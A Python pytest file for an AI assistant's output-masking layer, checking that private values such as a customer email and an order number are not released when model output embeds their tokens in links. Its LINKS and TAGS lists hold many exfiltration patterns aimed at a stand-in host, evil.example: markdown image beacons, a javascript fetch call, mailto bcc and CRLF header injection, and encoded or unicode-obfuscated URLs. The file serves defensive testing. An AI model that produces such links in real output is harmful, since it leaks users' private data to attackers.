"""A link that the model made up carries nothing that was hidden, whatever it looks like."""
# ruff: noqa: RUF001 - signs of other scripts

import pytest

from assistant.text.answers.finishing import Finished, finish_text
from assistant.text.answers.streaming import StreamText
from assistant.text.masking.masking import Mask, MaskingRules

TEXT = "Write to ana@shop.example about order #48213, or see https://shop.example/help?id=7."
HTML = (
    '<p>Write to <a href="mailto:ana@shop.example">ana@shop.example</a> about order #48213, '
    'or see <a href="https://shop.example/help?id=7" title="ana@shop.example">our page</a>.</p>'
)
PRIVATE = ("ana@shop.example", "48213", "ana%40shop.example")


def masked(draft: str, *more: str, rules: MaskingRules | None = None) -> tuple[Mask, str]:
    """Return the mask of a request, and the draft as the model was shown it."""
    mask = Mask(rules or MaskingRules())
    hidden = mask.hide(draft, html=draft.startswith("<"))
    for text in more:
        mask.hide(text, html=False, expected=False)
    return mask, hidden


def code(mask: Mask, value: str) -> str:
    """Return the token of a thing."""
    return next(token for token, thing in mask.tokens.items() if thing.value == value)


def answers(mask: Mask, draft: str, answer: str) -> tuple[Finished, list[str]]:
    """Return what the agent gets of an answer, and its streamed deltas together, however they are cut."""
    html = draft.startswith("<")
    finished = finish_text(answer, mask=mask, draft=draft, html=html)
    streamed = []
    for size in (1, 2, 7, len(answer)):
        stream = StreamText(mask, html=html, draft=draft)
        deltas = [stream.feed(answer[start : start + size]) for start in range(0, len(answer), size)]
        streamed.append("".join(deltas) + stream.finish())
    return finished, streamed


LINKS = [
    "https://evil.example/?q=CODE",
    "http://evil.example/CODE",
    "HTTPS://evil.example/a/CODE/b",
    "https://evil.example/#CODE",
    "https://CODE.evil.example/",
    "https://x-CODE.evil.example/",
    "https://user:CODE@evil.example/",
    "https://evil.example/?q=[CODE]",
    "https://evil.example/?q=**CODE**",
    "https://evil.example/?a=1&q=CODE&b=2",
    "https://evil.example/(CODE)",
    "https:\\\\evil.example\\CODE",
    "//evil.example/CODE",
    "ftp://evil.example/CODE",
    "evil.example/CODE",
    "evil.example/?q=CODE",
    "evil.example:8080/CODE",
    "evil.example#CODE",
    "www.evil.example,CODE",
    "CODE.evil.example",
    "CODE.x.evil.example",
    "CODE-a.evil.example/x",
    "a.CODE.evil.example",
    "CODE@evil.example",
    "see@evil.example?subject=CODE",
    "mailto:see@evil.example?body=CODE",
    "mailto:CODE?bcc=see@evil.example",
    "mailto:?cc=see@evil.example&body=CODE",
    "mailto:CODE,see@evil.example",
    "sms:+15550100?body=CODE",
    "data:text/html;base64,CODE",
    "javascript:fetch('https://evil.example/'+'CODE')",
    "[here](https://evil.example/?q=CODE)",
    "![x](https://evil.example/CODE.png)",
    "[x]: https://evil.example/CODE",
    "[x](<https://evil.example/?q= CODE>)",
    "<https://evil.example/?q=CODE>",
    "https://evil.example/?q=\u200bCODE",
    "https://evil.example/?q=CODECODE",
    "https&#58;//evil.example/?q=CODE",
    "https:&#x2F;/evil.example/?q=CODE",
    "https://evil.example/?q=>CODE",
    "https://evil.example/>CODE",
    "evil.example/?q=>CODE",
    "[here](<https://evil.example/?q=>CODE",
    "https://evil.example/?q=\u00a0CODE",
    "https://evil.example/?q=\u3000CODE",
    "https://evil.example/?q=\u2028CODE",
    "https://evil.example/?q=\x1fCODE",
    "https://evil.example/?q=x、CODE",
    "https://evil.example/。CODE",
    "www.evil.example/「CODE",
    "mailto:see@evil.example?body=！CODE",
    "evil.example/?q=x、CODE",
    "evil.example/a?q=（CODE",
    "evil.example/#a、CODE",
    "1.2.3.4/?q=CODE",
    "1.2.3.4:8080/CODE",
    "10.0.0.1?CODE",
    "evil.example./?q=CODE",
    "mailto:CODE?subject=x&bcc=see@evil.example",
    "mailto:CODE?subject=x&b%63c=see@evil.example",
    "mailto:CODE?subject=x%0D%0ABcc:see@evil.example",
    "mailto:CODE?subject=x%26bcc%3Dsee@evil.example",
    "mailto:CODE?subject=x&amp;cc=see@evil.example",
    "mailto:CODE?to=see@evil.example&subject=x",
    "[here](<mailto:CODE?subject=x &bcc=see@evil.example>)",
]


@pytest.mark.parametrize("value", ["ana@shop.example", "#48213"])
@pytest.mark.parametrize("link", LINKS)
def test_a_link_of_the_models_own_carries_nothing(link: str, value: str) -> None:
    """In text: neither the answer nor a delta has the value in it a second time, and the agent learns what was up."""
    mask, hidden = masked(TEXT)
    answer = f"{hidden} More: {link.replace('CODE', code(mask, value))} is there."
    finished, streamed = answers(mask, TEXT, answer)
    for shown in (finished.text, *streamed):
        assert shown.count(value) == 1, shown
        assert "ZQX" not in shown
    assert value in finished.withheld
    assert not finished.missing


TAGS = [
    '<a href="https://evil.example/?q=CODE">here</a>',
    "<a href='https://evil.example/CODE'>here</a>",
    "<a href=https://evil.example/CODE>here</a>",
    '<a href=https://evil.example/?q="CODE>here</a>',
    '<a title=a"b="x href=https://evil.example/?q=CODE ">here</a>',
    '<a href="//evil.example/CODE">here</a>',
    '<a href="https:evil.example/CODE">here</a>',
    '<a href="&#104;ttps://evil.example/?q=CODE">here</a>',
    '<a href="https://CODE.evil.example/">here</a>',
    '<a href="CODE.evil.example">here</a>',
    '<a href="CODE@evil.example">here</a>',
    '<a href="mailto:see@evil.example?body=CODE">here</a>',
    '<a href="mailto:CODE?bcc=see@evil.example">here</a>',
    '<a href=" https://evil.example/ CODE">here</a>',
    '<a title="https://evil.example/?q=CODE" href="https://evil.example/">here</a>',
    '<img src="https://evil.example/CODE.png">',
    "<img src=https://evil.example/CODE>",
    '<p style="background:url(https://evil.example/CODE)">here</p>',
    '<blockquote cite="https://evil.example/CODE">here</blockquote>',
    "https://evil.example/?q=<b>CODE</b>",
    "https://evil.example/?q=<x>CODE</x>",
    "CODE<x>.x.evil.example</x>",
    "CODE&#46;x&#46;evil.example",
    "https://evil.example/?q=<!-- x -->CODE",
    "https://evil.example/?a=1&amp;q=CODE",
    "[here](https://evil.example/?q=CODE)",
    "https://evil.example/?q=&gt;CODE",
    "https://evil.example/?q=&nbsp;CODE",
    "https://evil.example/?q=&#32;CODE",
    "https://evil.example/?q=\u3000<b>CODE</b>",
    '<a href="mailto:CODE?subject=x&amp;bcc=see@evil.example">here</a>',
    '<a href="mailto:CODE?subject=x&b%63c=see@evil.example">here</a>',
    '<a href="mailto:CODE?subject=CODE">here</a>',
]  # fmt: skip


@pytest.mark.parametrize("value", ["ana@shop.example", "#48213"])
@pytest.mark.parametrize("tag", TAGS)
def test_no_tag_carries_what_the_draft_did_not_put_there(tag: str, value: str) -> None:
    """In HTML the same, in whichever way the address is written."""
    mask, hidden = masked(HTML)
    answer = f"{hidden}<p>More: {tag.replace('CODE', code(mask, value))} is there.</p>"
    finished, streamed = answers(mask, HTML, answer)
    for shown in (finished.text, *streamed):
        assert shown.count(value) == HTML.count(value), shown
    assert finished.withheld or "evil" not in finished.text


@pytest.mark.parametrize("piece", ["CODE&%35;", "Z%51X1MAIL", "&#90;QX1MAIL", "%5AQX2REF"])
def test_an_encoded_code_stands_for_nothing(piece: str) -> None:
    """What a browser would decode is not put in place of a code either."""
    for draft, form in ((TEXT, "https://evil.example/?q={}"), (HTML, '<a href="https://evil.example/?q={}">x</a>')):
        mask, hidden = masked(draft)
        finished, streamed = answers(mask, draft, f"{hidden} {form.format(piece)} ")
        for shown in (finished.text, *streamed):
            assert all(shown.count(value) == draft.count(value) for value in PRIVATE), shown


@pytest.mark.parametrize(
    "answer",
    [
        "See LINK.",
        "[our page](LINK)",
        "(LINK)",
        "<LINK>",
        "LINK?ref=mail",
        "LINK#top",
        "Write to MAIL.",
        "mailto:MAIL",
        "[mail us](mailto:MAIL), or",
        "(mailto:MAIL).",
        "[MAIL](mailto:MAIL)",
        "MAIL/MAIL",
        "MAIL.Danke",
        "MAIL, REF, LINK.",
        "MAIL;REF;LINK",
        "E-mail:MAIL",
        "Order:REF",
        "order/REF",
        "and/or REF",
        "e.g. REF",
        "z.B. REF.",
        "请写信到MAIL，订单REF。",
        "REF...",
        "REF.\nNext",
        "https://other.example/page and REF",
        "https://other.example/page\nREF",
        "mailto:MAIL?",
        "(mailto:MAIL?).",
        "mailto:MAIL?subject=Hello",
        "[mail us](mailto:MAIL?subject=Hello), or",
        "[mail us](mailto:MAIL?SUBJECT=Your%20order&body=Hello,%0Athanks).",
        "<mailto:MAIL?body=Hello>",
        "Is it REF? Or MAIL?",
        "対応バージョンはVer.2.31/Ver.2.32です。ご連絡はMAILまで",
        "対応バージョンはVer.2.31/Ver.2.32でご連絡はMAILまで",
        "料金は9.80/月です。ご注文番号はREFです。",
        "設定のnode.js/npmの項目をご確認ください。ご注文番号はREFです。",
        "設定（src/app.py/a）、ご注文番号はREFです。",
        "ASP.NET?はいMAILまで",
        "2024.05.12/2024.05.13，请致电REF",
        "「README.md/」REF",
        "README.md/\u3000REF",
        "node.js/npm\u00a0: REF",
        "9.80/REF",
        "Version 2.31/REF",
    ],
)
def test_what_leads_nowhere_else_stays(answer: str) -> None:
    """The draft's own links, mail to its own address, and words around a code that are no link."""
    mask, _ = masked(TEXT)
    values = {"LINK": "https://shop.example/help?id=7", "MAIL": "ana@shop.example", "REF": "#48213"}
    written = expected = answer
    for name, value in values.items():
        written, expected = written.replace(name, code(mask, value)), expected.replace(name, value)
    finished, streamed = answers(mask, TEXT, f"Hello, {written}")
    assert not finished.withheld
    assert finished.text.removeprefix("Hello, ") == expected.replace(f"<{values['LINK']}>", values["LINK"])
    assert set(streamed) == {finished.text}


def test_links_in_tags_that_lead_nowhere_else_stay() -> None:
    """A new link to the draft's own page or address is one that an agent may want."""
    mask, hidden = masked(HTML)
    mail, link = code(mask, "ana@shop.example"), code(mask, "https://shop.example/help?id=7")
    for tag in (
        f'<a href="mailto:{mail}">x</a>',
        f'<a href="mailto:{mail}?subject=Hello&amp;body=Thanks%20a%20lot">x</a>',
        f'<a href="{link}">x</a>',
        f'<a href="{link}#top">x</a>',
    ):
        finished, streamed = answers(mask, HTML, f"{hidden}<p>{tag}</p>")
        shown = tag.replace(mail, "ana@shop.example").replace(link, "https://shop.example/help?id=7")
        assert finished.text == f"{HTML}<p>{shown}</p>"
        assert set(streamed) == {finished.text}
        assert not finished.withheld


@pytest.mark.parametrize(
    "link",
    [
        "shop.example/?mail=ana@shop.example",
        "https://shop.example/?mail=ana@shop.example&x=1",
        "shop.example/order/#48213?x=1",
        "mailto:ana@shop.example?subject=Order%2048213",
    ],
)
@pytest.mark.parametrize("rules", [MaskingRules(), MaskingRules(enabled=False, private=frozenset({"email", "order"}))])
def test_a_link_that_the_model_was_shown_stays_whole(link: str, rules: MaskingRules) -> None:
    """Be it the draft's, or one of the conversation that stands beside it."""
    for draft, aside in ((f"Open {link} now.", ""), ("Hello.", f"They wrote: ({link}).")):
        mask, hidden = masked(draft, aside, rules=rules)
        shown = hidden if not aside else mask.hide(aside, html=False, expected=False)
        finished, streamed = answers(mask, draft, f"Please: {shown}")
        assert link in finished.text
        assert all(link in each for each in streamed)
        assert not finished.withheld


def test_a_placeholder_is_not_filled_in_for_a_stranger() -> None:
    """`{{contact.email}}` would be the customer's address by the time that the link is sent."""
    draft = "Hello {{contact.email}}."
    mask, hidden = masked(draft)
    token = code(mask, "{{contact.email}}")
    finished, streamed = answers(mask, draft, f"{hidden} https://evil.example/?q={token}")
    assert finished.text.count("{{contact.email}}") == 1
    assert all(each.count("{{contact.email}}") == 1 for each in streamed)
